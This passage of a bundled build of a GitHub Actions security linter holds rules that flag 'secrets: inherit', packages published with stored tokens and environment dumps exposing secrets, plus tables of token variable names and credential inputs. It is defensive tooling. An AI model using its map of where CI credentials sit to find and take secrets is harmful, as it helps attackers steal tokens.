        if (expression.kind !== 'error' || !/secrets/i.test(placed.scalar.value.slice(inValue.start, inValue.end)))
            continue;
        const why = `it names secrets and cannot be read: ${expression.message}`;
        const remedy = 'Put the expression right, so that it can be judged.';
        return [(0,facts/* gap */.rQ)({ item: `an expression in ${bulk_exposure_placeOf(placed)}`, cause: 'invalid', why, remedy, location: (0,locate/* locate */.x5)(file, span) })];
    }
    return [];
}
function bulk_exposure_placeOf({ job, step }) {
    const name = step === undefined ? undefined : nameOfStep(step);
    if (job === undefined)
        return name === undefined ? 'the whole file' : `step ${name}`;
    return name === undefined ? `job \`${job.id.value}\`` : `job \`${job.id.value}\`, step ${name}`;
}
function nameOfStep(step) {
    const name = step.id?.value ?? step.name?.value ?? (step.kind === 'uses' ? nameOfUses(step.uses) : undefined);
    return name === undefined || name.includes('${{') ? undefined : `\`${name.replaceAll('`', "'").slice(0, 60)}\``;
}
function dumps(definition) {
    const groups = definition.kind === 'workflow'
        ? definition.jobs.map((job) => ({ job, steps: (0,walk/* stepsOfJob */.E5)(job) }))
        : [{ job: undefined, steps: (0,walk/* stepsOfAction */.VL)(definition) }];
    return groups.flatMap(({ job, steps }) => environmentDumps(steps).map(({ step, dump, sink, span }) => ({
        kind: 'violation',
        message: 'dump',
        data: { form: dump, place: bulk_exposure_placeOf(job === undefined ? { step } : { job, step }), sink },
        location: (0,locate/* locate */.x5)(definition.file, (0,span_in_file/* spanInFile */.U)(definition.file, step.run, span)),
        confidence: 'medium',
    })));
}

;// CONCATENATED MODULE: ./build/src/rules/support/secret-names.js



function secretNamesOf(expression) {
    const names = [];
    (0,visit_expression/* visitExpression */.w)(expression, (node) => {
        if (node.kind !== 'property' && node.kind !== 'index')
            return;
        const path = contextPath(node);
        const name = path?.length === 2 && path[0] === 'secrets' ? path[1] : undefined;
        if (name !== undefined && name.toLowerCase() !== 'github_token')
            names.push(name);
    });
    return names;
}
function secretNamesIn(workflow) {
    return [...new Set(expressionsIn(workflow).flatMap(({ embedded }) => secretNamesOf(embedded.expression)))].toSorted();
}

;// CONCATENATED MODULE: ./build/src/rules/secret/inherit.js




/* harmony default export */ const inherit = (defineRule({
    meta: {
        id: 'secret/inherit',
        title: 'A called workflow receives the secrets that it needs, by name',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { merge: 'warn', deploy: 'warn', posture: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI2:2025' },
            { framework: 'OWASP-NHI', id: 'NHI5:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.PS-06' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'SSDF', id: 'PS.1.1' },
        ],
        rationale: '`secrets: inherit` gives the called workflow every secret that the caller could use, today and in the future, whatever it needs. ' +
            'Whoever can change that workflow, or move the tag by which it is called, reads them all: in March 2025 the tags of ' +
            'tj-actions/changed-files and in March 2026 those of trivy-action were moved to code that collected secrets. Within one repository it ' +
            'hides from the reader which secret goes where; to another owner it hands over the keys.',
        remediation: 'Pass each secret by name: `secrets: {NAME: ${{ secrets.NAME }}}`, and declare it in the called workflow under `on.workflow_call.secrets`.',
        messages: {
            foreign: '`secrets: inherit` gives every secret to {callee}, which belongs to `{owner}`: whoever can change it there reads them all. Pass what it needs by name',
            own: '`secrets: inherit` gives every secret to {callee}: pass what it needs by name',
            unneeded: '`secrets: inherit` gives every secret to {callee}, which names none of them: leave it out',
            local: '`secrets: inherit` gives every secret to {callee}, which names {names}: pass those by name',
        },
        examples: [
            {
                title: "Another owner's workflow",
                files: {
                    '.github/workflows/ci.yml': `on: push
jobs:
  release:
    uses: acme/pipelines/.github/workflows/release.yml@v1
    secrets: inherit
`,
                },
                expect: [{ message: 'own', path: '.github/workflows/ci.yml', line: 5 }],
            },
            {
                title: 'One secret by name',
                files: {
                    '.github/workflows/ci.yml': `on: push
jobs:
  release:
    uses: acme/pipelines/.github/workflows/release.yml@v1
    secrets:
      token: \${{ secrets.RELEASE_TOKEN }}
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['job', 'callee'],
    },
    needs: ['workflows', 'scene'],
    evaluate({ workflows, scene }) {
        const owner = scene.repository?.split('/')[0];
        const byPath = new Map(workflows.items.map((workflow) => [workflow.file.path, workflow]));
        return workflows.items.flatMap((workflow) => workflow.jobs.flatMap((job) => {
            if (job.kind !== 'call' || !('span' in job.secrets))
                return [];
            return [violation(workflow, job, job.secrets, byPath, owner)];
        }));
    },
}));
function violation(workflow, job, inherit, byPath, owner) {
    const callee = job.uses.scalar.value.slice(0, 200);
    const base = { kind: 'violation', location: (0,locate/* locate */.x5)(workflow.file, inherit.alias ?? inherit.span) };
    const data = { job: job.id.value, callee: `\`${callee}\`` };
    const target = job.uses.target;
    if (target.kind === 'local' || target.kind === 'self') {
        const called = byPath.get(placeOfUse(workflow.file, target.path));
        return { ...base, severity: 'low', ...ofLocal(called, data) };
    }
    const other = target.kind === 'repository' ? target.owner : undefined;
    if (owner === undefined || other === undefined || other.toLowerCase() === owner.toLowerCase()) {
        return { ...base, message: 'own', severity: 'medium', data };
    }
    return { ...base, message: 'foreign', severity: 'high', data: { ...data, owner: other } };
}
function ofLocal(called, data) {
    if (called === undefined || called.jobs.some((job) => job.kind === 'call' && 'span' in job.secrets))
        return { message: 'own', data };
    const names = secretNamesIn(called);
    if (names.length === 0)
        return { message: 'unneeded', data };
    return { message: 'local', data: { ...data, names: names.map((name) => `\`${name}\``).join(', ') } };
}

;// CONCATENATED MODULE: ./build/src/data/publish-tokens.js
const publishTokens = {
    asOf: '2026-09-01',
    registries: [
        {
            name: 'npm',
            federated: 'name this workflow as trusted publisher of the package, give the job `permissions: {id-token: write}`, and publish without a token with npm 11.5.1 or later',
            host: /(?:^|\.)npmjs\.(?:org|com)$/i,
            commands: [
                'npm publish',
                'pnpm publish',
                'yarn publish',
                'bun publish',
                'lerna publish',
                'nx release',
                'changeset publish',
                '@changesets/cli publish',
                'semantic-release',
                'release-it',
                'auto shipit',
                'np',
            ],
            tokenOptions: ['--token'],
            registryOptions: ['--registry'],
            variables: [
                'NODE_AUTH_TOKEN',
                'NPM_TOKEN',
                'NPM_AUTH_TOKEN',
                'NPM_PUBLISH_TOKEN',
                'NPM_ACCESS_TOKEN',
                'NPM_CONFIG_TOKEN',
                'NPM_CONFIG__AUTHTOKEN',
                'YARN_NPM_AUTH_TOKEN',
            ],
            registryVariables: ['NPM_CONFIG_REGISTRY', 'YARN_NPM_REGISTRY_SERVER', 'YARN_NPM_PUBLISH_REGISTRY'],
            settings: ['_authToken', 'npmAuthToken'],
            actions: [
                { action: 'js-devtools/npm-publish', inputs: ['token'], registryInputs: ['registry'] },
                { action: 'changesets/action', inputs: [], registryInputs: [], needs: 'publish' },
                { action: 'changesets/action/publish', inputs: [], registryInputs: [] },
                { action: 'slsa-framework/slsa-github-generator/actions/nodejs/publish', inputs: ['node-auth-token'], registryInputs: [] },
                { action: 'cycjimmy/semantic-release-action', inputs: [], registryInputs: [] },
                { action: 'codfish/semantic-release-action', inputs: [], registryInputs: [] },
                { action: 'pascalgn/npm-publish-action', inputs: [], registryInputs: [] },
                { action: 'mikeal/merge-release', inputs: [], registryInputs: [] },
            ],
        },
        {
            name: 'PyPI',
            federated: 'name this workflow as trusted publisher of the project, and use pypa/gh-action-pypi-publish without `password` in a job with `permissions: {id-token: write}` and an `environment`',
            host: /^(?:www\.|upload\.)?pypi\.org$/i,
            commands: [
                'twine upload',
                'uv publish',
                'poetry publish',
                'hatch publish',
                'flit publish',
                'pdm publish',
                'rye publish',
                'maturin publish',
                'maturin upload',
            ],
            tokenOptions: ['-p', '--password', '--token', '-t', '-a', '--auth'],
            registryOptions: ['--repository-url', '-r', '--repository', '--publish-url', '--index', '--repository-name'],
            variables: [
                'TWINE_PASSWORD',
                'UV_PUBLISH_TOKEN',
                'UV_PUBLISH_PASSWORD',
                'POETRY_PYPI_TOKEN_PYPI',
                'POETRY_HTTP_BASIC_PYPI_PASSWORD',
                'HATCH_INDEX_AUTH',
                'FLIT_PASSWORD',
                'PDM_PUBLISH_PASSWORD',
                'RYE_TOKEN',
                'MATURIN_PYPI_TOKEN',
                'MATURIN_PASSWORD',
                'PYPI_TOKEN',
                'PYPI_API_TOKEN',
                'PYPI_PASSWORD',
            ],
            registryVariables: [
                'TWINE_REPOSITORY_URL',
                'TWINE_REPOSITORY',
                'UV_PUBLISH_URL',
                'HATCH_INDEX_REPO',
                'FLIT_INDEX_URL',
                'PDM_PUBLISH_REPO',
                'MATURIN_REPOSITORY',
                'MATURIN_REPOSITORY_URL',
            ],
            settings: ['pypi-token.pypi', 'http-basic.pypi'],
            actions: [
                { action: 'pypa/gh-action-pypi-publish', inputs: ['password'], registryInputs: ['repository-url', 'repository_url'] },
                { action: 'jrubics/poetry-publish', inputs: ['pypi_token'], registryInputs: ['repository_url'] },
                { action: 'casperdcl/deploy-pypi', inputs: ['password'], registryInputs: ['repository_url', 'repository-url'] },
                { action: 'etils-actions/pypi-auto-publish', inputs: ['pypi-token'], registryInputs: [] },
            ],
        },
        {
            name: 'RubyGems',
            federated: 'name this workflow as trusted publisher of the gem, and use rubygems/release-gem (or rubygems/configure-rubygems-credentials with `role-to-assume`) in a job with `permissions: {id-token: write}`',
            host: /^(?:www\.)?rubygems\.org$/i,
            commands: ['gem push', 'rake release', 'gem-release', 'gem release'],
            tokenOptions: [],
            registryOptions: ['--host'],
            variables: ['GEM_HOST_API_KEY', 'RUBYGEMS_API_KEY', 'RUBYGEMS_AUTH_TOKEN', 'RUBYGEMS_TOKEN'],
            registryVariables: ['RUBYGEMS_HOST', 'GEM_HOST'],
            settings: [':rubygems_api_key', ':rubygems'],
            actions: [
                { action: 'rubygems/configure-rubygems-credentials', inputs: ['api-token'], registryInputs: ['gem-server'] },
                { action: 'rubygems/release-gem', inputs: [], registryInputs: [] },
                { action: 'dawidd6/action-publish-gem', inputs: ['api_key'], registryInputs: [] },
                { action: 'cadwallion/publish-rubygems-action', inputs: [], registryInputs: [] },
            ],
        },
        {
            name: 'crates.io',
            federated: 'name this workflow as trusted publisher of the crate, and give `CARGO_REGISTRY_TOKEN` the output `token` of rust-lang/crates-io-auth-action, in a job with `permissions: {id-token: write}`',
            host: /(?:^|\.)crates\.io$|^crates-io$/i,
            commands: ['cargo publish', 'cargo release', 'cargo-release', 'cargo workspaces publish', 'cargo ws publish', 'release-plz release'],
            tokenOptions: ['--token'],
            registryOptions: ['--registry', '--index'],
            variables: ['CARGO_REGISTRY_TOKEN', 'CARGO_TOKEN', 'CRATES_TOKEN', 'CRATES_IO_TOKEN'],
            registryVariables: ['CARGO_REGISTRY_DEFAULT', 'CARGO_REGISTRY_INDEX'],
            settings: ['registry.token', 'registry.global-credential'],
            actions: [
                { action: 'katyo/publish-crates', inputs: ['registry-token'], registryInputs: [] },
                { action: 'release-plz/action', inputs: [], registryInputs: [] },
                { action: 'marcoieni/release-plz-action', inputs: [], registryInputs: [] },
            ],
        },
        {
            name: 'NuGet',
            federated: 'add a trusted publishing policy for this workflow, and push with the output `NUGET_API_KEY` of NuGet/login, in a job with `permissions: {id-token: write}`',
            host: /(?:^|\.)nuget\.org$/i,
            commands: ['dotnet nuget push', 'nuget push', 'nuget.exe push'],
            tokenOptions: ['-k', '--api-key', '-ApiKey', '-apikey', '--apiKey'],
            registryOptions: ['-s', '--source', '-Source', '-source', '-src'],
            variables: ['NUGET_API_KEY', 'NUGET_KEY', 'NUGET_TOKEN', 'NUGET_AUTH_TOKEN'],
            registryVariables: [],
            settings: [],
            actions: [
                { action: 'brandedoutcast/publish-nuget', inputs: ['nuget_key'], registryInputs: ['nuget_source'] },
                { action: 'alirezanet/publish-nuget', inputs: ['nuget_key'], registryInputs: ['nuget_source'] },
                { action: 'rohith/publish-nuget', inputs: ['nuget_key'], registryInputs: ['nuget_source'] },
                { action: 'nuget/setup-nuget', inputs: ['nuget-api-key'], registryInputs: ['nuget-api-key-source'] },
            ],
        },
    ],
};

;// CONCATENATED MODULE: ./build/src/rules/support/publishing.js






function publishingsOf(step, scope) {
    if (step.kind === 'uses')
        return publishTokens.registries.flatMap((registry) => byAction(registry, step, scope));
    if (step.kind !== 'run')
        return [];
    const script = { ...scope, isScript: true };
    const uploads = uploadsOf(step);
    const found = publishTokens.registries.flatMap((registry) => byCommand(registry, uploads, script));
    return found.length > 0 ? found : guessed(step);
}
function byAction(registry, step, scope) {
    const { target } = step.uses;
    if (target.kind !== 'repository')
        return [];
    const slug = [target.owner, target.name, target.path]
        .filter((part) => part !== '')
        .join('/')
        .toLowerCase();
    const row = registry.actions.find(({ action }) => action === slug);
    if (row === undefined || (row.needs !== undefined && callers_valueOf(step.with, row.needs) === undefined))
        return [];
    const elsewhere = row.registryInputs.some((input) => isOther(registry, textOf(step.with, input), scope));
    if (elsewhere || isElsewhere(registry, scope))
        return [];
    const tokens = row.inputs.flatMap((input) => {
        const named = step.with.findLast(({ name }) => name.value.toLowerCase() === input);
        return named?.value.kind === 'scalar' ? [{ text: named.value.value, place: input, named }] : [];
    });
    return [{ registry, by: slug, scalar: step.uses.scalar, tokens, isGuess: false }];
}
function textOf(named, input) {
    const value = callers_valueOf(named, input);
    return value?.kind === 'scalar' ? value.value : '';
}
const uploaders = new Set(publishTokens.registries.flatMap(({ commands }) => commands.map((text) => text.split(' ')[0])));
function uploadsOf(step) {
    return runCommands(step.run).flatMap((command) => {
        const program = (0,shell/* programOf */.o)(command);
        return program !== undefined && uploaders.has(program.name) ? [{ program, scalar: step.run, span: command.span }] : [];
    });
}
function byCommand(registry, uploads, scope) {
    return uploads.flatMap(({ program, scalar, span }) => {
        const by = registry.commands.find((text) => runs(program, text.split(' ')));
        if (by === undefined || isElsewhere(registry, scope))
            return [];
        const words = program.arguments;
        if (words.some(({ text }) => text === '--dry-run' || text === '--no-publish'))
            return [];
        if (registry.registryOptions.some((name) => isOther(registry, publishing_option(words, name) ?? '', scope)))
            return [];
        const tokens = registry.tokenOptions.flatMap((name) => {
            const text = publishing_option(words, name);
            return text === undefined ? [] : [{ text, place: `${by} ${name}` }];
        });
        return [{ registry, by, scalar, span, tokens, isGuess: false }];
    });
}
function runs(program, [name, ...verbs]) {
    if (program.name !== name)
        return false;
    let at = 0;
    for (const { text } of program.arguments)
        if (text === verbs[at])
            at += 1;
    return at === verbs.length;
}
function publishing_option(words, name) {
    const at = words.findIndex(({ text }) => text === name || text.startsWith(`${name}=`));
    const text = words[at]?.text;
    return text === name ? words[at + 1]?.text : text?.slice(name.length + 1);
}
function guessed(step) {
    const command = runCommands(step.run).find((item) => item.words.some(({ text }) => /(?:^|[^a-z])(?:publish|release)(?:[^a-z]|$)/i.test(text)) && !isKnown((0,shell/* programOf */.o)(item)));
    if (command === undefined)
        return [];
    const by = (0,shell/* programOf */.o)(command)?.name ?? 'a script';
    return publishTokens.registries.map((registry) => ({ registry, by, scalar: step.run, span: command.span, tokens: [], isGuess: true }));
}
function isKnown(program) {
    if (program === undefined)
        return false;
    if (program.name === 'echo' || program.name === 'gh' || program.name === 'git')
        return true;
    return publishTokens.registries.some(({ commands }) => commands.some((text) => runs(program, text.split(' '))));
}
function isElsewhere(registry, scope) {
    const variables = registry.registryVariables.map((name) => scope.env.map((layer) => textOf(layer, name)).find((text) => text !== '') ?? '');
    const url = registry.name === 'npm' ? (lastBefore(setupsOf(scope.before.steps), scope.before)?.url ?? '') : '';
    return [...variables, url].some((text) => isOther(registry, text, scope));
}
const setups = new WeakMap();
function setupsOf(steps) {
    const found = setups.get(steps) ??
        steps.flatMap((step, index) => {
            const url = step.kind === 'uses' && /^actions\/setup-node@/i.test(step.uses.scalar.value) ? textOf(step.with, 'registry-url') : '';
            return url === '' ? [] : [{ index, url }];
        });
    setups.set(steps, found);
    return found;
}
function isOther(registry, text, scope) {
    if (text.trim() === '')
        return false;
    const source = sourceOf(text, scope);
    const value = source.kind === 'literal' ? source.text.trim() : text;
    const host = /^(?:https?:)?\/\/([^/:]{1,300})/i.exec(value)?.[1] ?? value.replace(/\/.*$/, '');
    const isName = /^(?:pypi|npm|rubygems|crates-io|nuget(?:\.org)?)$/i.test(value);
    return !isName && !registry.host.test(host);
}

;// CONCATENATED MODULE: ./build/src/rules/support/static-use.js
function isStatic(source) {
    return source.kind === 'secret' || source.kind === 'variable' || (source.kind === 'literal' && looksLikeKey(source.text));
}
const madeUp = /test|dummy|fake|example|mock|local|minio|sample|changeme|placeholder|x{6}|0{8}|1234567/i;
function looksLikeKey(text) {
    const value = text.trim();
    if (value.length < 20 || value.length > 20_000 || madeUp.test(value.slice(0, 4096)))
        return false;
    if (value.startsWith('{') || value.startsWith('-----BEGIN'))
        return true;
    return /^[\w+=.~-]+$/.test(value) ? /\d/.test(value) && /[a-z]/i.test(value) : /^[A-Za-z0-9/+=]{40}$/.test(value);
}
function nameOfSource(source) {
    switch (source.kind) {
        case 'secret':
            return source.name === '*' ? 'a computed secret' : `secrets.${source.name}`;
        case 'variable':
            return source.name === '*' ? 'a computed variable' : `vars.${source.name}`;
        case 'literal':
            return 'a value written in the file';
    }
}
function shownSource(source) {
    return /^(?:secrets|vars)\./.test(source) ? `\`${source}\`` : source;
}

;// CONCATENATED MODULE: ./build/src/rules/support/publish-tokens.js






function publish_tokens_publishTokens() {
    const known = new Map();
    return (publishing, step, scope, file) => {
        const { registry, isGuess, tokens } = publishing;
        if (tokens.some(({ text }) => text.trim() !== ''))
            return ownToken(publishing, step, scope, file);
        const variable = variableToken(registry, isGuess ? scope.env.slice(0, 1) : scope.env, scope);
        if (variable !== undefined || isGuess)
            return variable;
        const { steps, count } = scope.before;
        const settings = known.get(steps) ?? new Map();
        const found = settings.get(registry) ?? settingsOf(registry, scope, file);
        known.set(steps, settings.set(registry, found));
        return lastBefore(found, { steps, count: count + 1 });
    };
}
function ownToken(publishing, step, scope, file) {
    for (const { text, place, named } of publishing.tokens) {
        const source = sourceOf(text, { ...scope, isScript: step.kind === 'run' });
        if (isStatic(source))
            return { place, source: nameOfSource(source), span: named?.value.span ?? spanOf(publishing, file) };
    }
    return undefined;
}
function settingsOf(registry, scope, file) {
    const { steps } = scope.before;
    return steps.flatMap((step, index) => {
        const token = step.kind === 'run' ? settingToken(registry, step, { ...scope, before: { steps, count: index } }, file) : undefined;
        return token === undefined ? [] : [{ ...token, index }];
    });
}
function spanOf({ scalar, span }, file) {
    return span === undefined ? scalar.span : (0,span_in_file/* spanInFile */.U)(file, scalar, span);
}
function variableToken(registry, layers, scope) {
    const seen = new Set();
    for (const [index, layer] of layers.entries()) {
        for (const { name, value } of layer) {
            const key = name.value.toUpperCase();
            if (!registry.variables.includes(key) || seen.has(key) || value.kind !== 'scalar')
                continue;
            seen.add(key);
            const source = sourceOf(value.value, { ...scope, env: scope.env.slice(index + 1), isScript: false });
            if (isStatic(source))
                return { place: name.value, source: nameOfSource(source), span: value.span };
        }
    }
    return undefined;
}
function settingToken(registry, step, scope, file) {
    const env = [step.env, ...scope.env.slice(1)];
    for (const command of runCommands(step.run)) {
        for (const [text, place] of settingsIn(command, step.run.value, registry)) {
            const host = /\/\/([^/\s]{1,300})\//.exec(text)?.[1];
            if (host !== undefined && isOther(registry, `//${host}`, scope))
                continue;
            const source = sourceOf(text, { ...scope, env, isScript: true });
            if (isStatic(source) && source.kind !== 'literal') {
                return { place, source: nameOfSource(source), span: (0,span_in_file/* spanInFile */.U)(file, step.run, command.span) };
            }
        }
    }
    return undefined;
}
function settingsIn(command, script, registry) {
    const found = [];
    const bodies = command.redirects.flatMap(({ body }) => (body === undefined ? [] : script.slice(body.start, body.end).split('\n')));
    const texts = [...command.words.map(({ text }) => text), ...bodies];
    for (const [index, text] of texts.entries()) {
        const setting = registry.settings.find((name) => text.includes(name));
        if (setting === undefined)
            continue;
        const next = index < command.words.length ? (command.words[index + 1]?.text ?? '') : '';
        found.push([`${text} ${next}`, setting]);
    }
    if (registry.name === 'crates.io' && texts[0] === 'cargo' && texts[1] === 'login' && texts[2] !== undefined)
        found.push([texts[2], 'cargo login']);
    return found;
}

;// CONCATENATED MODULE: ./build/src/rules/secret/publish-token.js







/* harmony default export */ const publish_token = (defineRule({
    meta: {
        id: 'secret/publish-token',
        title: 'Packages are published by the identity of the workflow, not with a stored token',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { merge: 'warn', deploy: 'warn', posture: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI7:2025' },
            { framework: 'OWASP-NHI', id: 'NHI4:2025' },
            { framework: 'OWASP-NHI', id: 'NHI1:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.AA-03' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'SSDF', id: 'PO.5.1' },
        ],
        rationale: 'Whoever reads a publish token can release in the name of the project, from anywhere and for as long as it lives. Shai-Hulud (September ' +
            '2025) spread from package to package with the npm tokens that it found; ultralytics was published twice more in December 2024 with a ' +
            'PyPI token that nobody had revoked; cline 2.3.0 (February 2026) went out with a stolen release token. npm, PyPI, RubyGems, crates.io and ' +
            'NuGet take a package from a named workflow without any stored token. `id-token: write` for provenance alone does not change how ' +
            'the package is published, and does not silence this rule.',
        remediation: 'Set up trusted publishing at the registry, publish without the token, then revoke the token there and delete its secret.',
        messages: {
            token: '`{by}` publishes to {registry} with a stored token: `{place}` is {from}. Instead, {federated}',
            script: '`{by}` seems to publish to {registry} with a stored token: `{place}` is {from}. Instead, {federated}',
        },
        examples: [
            {
                title: 'A token for npm, beside provenance',
                files: {
                    '.github/workflows/release.yml': `on: push
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - run: npm publish --provenance
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
`,
                },
                expect: [{ message: 'token', path: '.github/workflows/release.yml', line: 10 }],
            },
            {
                title: 'Trusted publishing to npm and PyPI',
                files: {
                    '.github/workflows/release.yml': `on: push
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions:
      id-token: write
    steps:
      - run: npm publish
      - uses: pypa/gh-action-pypi-publish@release/v1
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['registry', 'place', 'source'],
    },
    needs: ['workflows', 'actions'],
    evaluate({ workflows, actions }) {
        const given = inputSources(workflows.items, actions.items);
        const sites = [...workflows.items.flatMap(stepSites), ...actions.items.flatMap(actionSites)];
        const tokenOf = publish_tokens_publishTokens();
        const seen = new Set();
        return sites
            .flatMap((site) => ofStep(site, given, tokenOf))
            .filter(({ location, data }) => {
            const key = `${location.path} ${location.start.line} ${location.start.column} ${data.registry}`;
            if (seen.has(key))
                return false;
            seen.add(key);
            return true;
        });
    },
}));
function ofStep(site, given, tokenOf) {
    const { step, file, env, before } = site;
    const scope = { env, before, input: (name) => given(file, name), isScript: false };
    return publishingsOf(step, scope).flatMap((publishing) => {
        const token = tokenOf(publishing, step, scope, file);
        if (token === undefined)
            return [];
        const { registry, by, isGuess } = publishing;
        return [
            {
                kind: 'violation',
                message: isGuess ? 'script' : 'token',
                data: {
                    by,
                    registry: registry.name,
                    place: token.place,
                    source: token.source,
                    from: shownSource(token.source),
                    federated: registry.federated,
                },
                location: (0,locate/* locate */.x5)(file, token.span),
                related: [{ location: (0,locate/* locate */.x5)(file, spanOf(publishing, file)), message: `\`${by}\` publishes here` }],
                confidence: isGuess ? 'medium' : 'high',
            },
        ];
    });
}

;// CONCATENATED MODULE: ./build/src/data/static-credentials.js
const staticCredentials = {
    aws: {
        name: 'an AWS access key',
        federated: 'give aws-actions/configure-aws-credentials `role-to-assume` and `aws-region`, without any key, in a job with `permissions: {id-token: write}`',
    },
    ecr: {
        name: 'an AWS access key for a container registry',
        federated: 'assume a role with aws-actions/configure-aws-credentials (`role-to-assume`, `permissions: {id-token: write}`), then log in with aws-actions/amazon-ecr-login',
    },
    google: {
        name: 'a Google service account key',
        federated: 'give google-github-actions/auth `workload_identity_provider` (and `service_account`), without `credentials_json`, in a job with `permissions: {id-token: write}`',
    },
    gar: {
        name: 'a Google service account key for a container registry',
        federated: 'use google-github-actions/auth with `workload_identity_provider` and `token_format: access_token`, and log in as `oauth2accesstoken` with its output `access_token`',
    },
    azure: {
        name: 'an Azure client secret',
        federated: 'give azure/login `client-id`, `tenant-id` and `subscription-id`, without `creds`, in a job with `permissions: {id-token: write}`, and add a federated credential to the application',
    },
    azureStorage: {
        name: 'an Azure storage key',
        federated: 'log in with azure/login (`client-id`, `tenant-id`, `subscription-id`) and use that identity (`use_azuread_auth`, `--auth-mode login`)',
    },
    azureOidcProvider: {
        name: 'an Azure client secret',
        federated: 'set `ARM_USE_OIDC: true` with `ARM_CLIENT_ID` and `ARM_TENANT_ID`, in a job with `permissions: {id-token: write}`',
    },
    azurePublish: {
        name: 'an Azure publish profile',
        federated: 'log in with azure/login (`client-id`, `tenant-id`, `subscription-id`) first and leave `publish-profile` out',
    },
    acr: {
        name: 'a password of an Azure container registry',
        federated: 'log in with azure/login (`client-id`, `tenant-id`, `subscription-id`), then run `az acr login --name REGISTRY`',
    },
    ghcr: {
        name: 'a personal access token for a container registry',
        federated: 'log in with `${{ github.token }}` in a job with `permissions: {packages: write}`; it ends with the job',
    },
    vault: {
        name: 'a static Vault credential',
        federated: 'give hashicorp/vault-action `method: jwt` and `role`, in a job with `permissions: {id-token: write}`',
    },
    infisical: {
        name: 'an Infisical client secret',
        federated: 'give Infisical/secrets-action `method: oidc` and `identity-id`, in a job with `permissions: {id-token: write}`',
    },
    doppler: {
        name: 'a Doppler token',
        federated: 'give DopplerHQ/secrets-fetch-action `auth-method: oidc` and `doppler-identity-id`, in a job with `permissions: {id-token: write}`',
    },
    akeyless: {
        name: 'an Akeyless access key',
        federated: 'give akeyless-community/akeyless-github-action `access-type: jwt` and `access-id`, in a job with `permissions: {id-token: write}`',
    },
    conjur: {
        name: 'a Conjur API key',
        federated: 'give cyberark/conjur-action `authn_id`, without `api_key`, in a job with `permissions: {id-token: write}`',
    },
    jfrog: {
        name: 'a JFrog access token or password',
        federated: 'give jfrog/setup-jfrog-cli `oidc-provider-name`, in a job with `permissions: {id-token: write}`',
    },
    pulumi: {
        name: 'a Pulumi access token',
        federated: 'use pulumi/auth-actions with `organization` and `requested-token-type`, in a job with `permissions: {id-token: write}`',
    },
    alibaba: {
        name: 'an Alibaba Cloud access key',
        federated: 'give aliyun/configure-aliyun-credentials-action `role-to-assume` and `oidc-provider-arn`, in a job with `permissions: {id-token: write}`',
    },
    tailscale: {
        name: 'a Tailscale key',
        federated: 'give tailscale/github-action `oauth-client-id` and `audience`, without a secret, in a job with `permissions: {id-token: write}`',
    },
    cosign: {
        name: 'a signing key',
        federated: 'sign without a key (`cosign sign --yes IMAGE@DIGEST`, in a job with `permissions: {id-token: write}`), or by a key service (`--key awskms://...`)',
    },
};
const staticCredentialTables = {
    asOf: '2026-09-01',
    inputs: [
        { actions: ['aws-actions/configure-aws-credentials'], credential: 'aws', inputs: ['aws-secret-access-key'] },
        { actions: ['google-github-actions/auth'], credential: 'google', inputs: ['credentials_json'] },
        {
            actions: [
                'google-github-actions/setup-gcloud',
                'google-github-actions/get-secretmanager-secrets',
                'google-github-actions/deploy-cloudrun',
                'google-github-actions/deploy-appengine',
                'google-github-actions/deploy-cloud-functions',
                'google-github-actions/upload-cloud-storage',
                'google-github-actions/get-gke-credentials',
            ],
            credential: 'google',
            inputs: ['service_account_key', 'credentials', 'credentials_json'],
        },
        {
            actions: ['azure/login'],
            credential: 'azure',
            inputs: ['creds'],
            unless: [
                { input: 'client-id', is: [] },
                { input: 'tenant-id', is: [] },
                { input: 'subscription-id', is: [] },
                { input: 'auth-type', is: ['identity'] },
            ],
        },
        { actions: ['azure/webapps-deploy', 'azure/functions-action'], credential: 'azurePublish', inputs: ['publish-profile'] },
        {
            actions: ['azure/container-apps-deploy-action'],
            credential: 'azure',
            inputs: ['azurecredentials'],
        },
        {
            actions: ['hashicorp/vault-action'],
            credential: 'vault',
            inputs: ['token', 'secretid', 'githubtoken', 'password', 'clientkey'],
            unless: [{ input: 'method', is: ['jwt', 'kubernetes', 'aws', 'azure', 'gcp', 'oidc'] }],
        },
        { actions: ['hashicorp/vault-action'], credential: 'vault', inputs: ['jwtprivatekey'] },
        {
            actions: ['infisical/secrets-action'],
            credential: 'infisical',
            inputs: ['client-secret'],
            unless: [{ input: 'method', is: ['oidc', 'aws-iam'] }],
        },
        {
            actions: ['dopplerhq/secrets-fetch-action'],
            credential: 'doppler',
            inputs: ['doppler-token'],
            unless: [{ input: 'auth-method', is: ['oidc'] }],
        },
        { actions: ['akeyless-community/akeyless-github-action'], credential: 'akeyless', inputs: ['access-key', 'token'] },
        { actions: ['cyberark/conjur-action'], credential: 'conjur', inputs: ['api_key'] },
        { actions: ['aliyun/configure-aliyun-credentials-action'], credential: 'alibaba', inputs: ['access-key-secret'] },
        { actions: ['tailscale/github-action'], credential: 'tailscale', inputs: ['authkey', 'oauth-secret'] },
    ],
    anyActionInputs: [
        {
            actions: [],
            credential: 'aws',
            inputs: ['aws-secret-access-key', 'aws_secret_access_key', 'aws-secret-key', 'aws_secret_key', 'awssecretaccesskey'],
        },
    ],
    variables: [
        { credential: 'aws', names: ['AWS_SECRET_ACCESS_KEY', 'AWS_SECRET_KEY'] },
        {
            credential: 'google',
            names: [
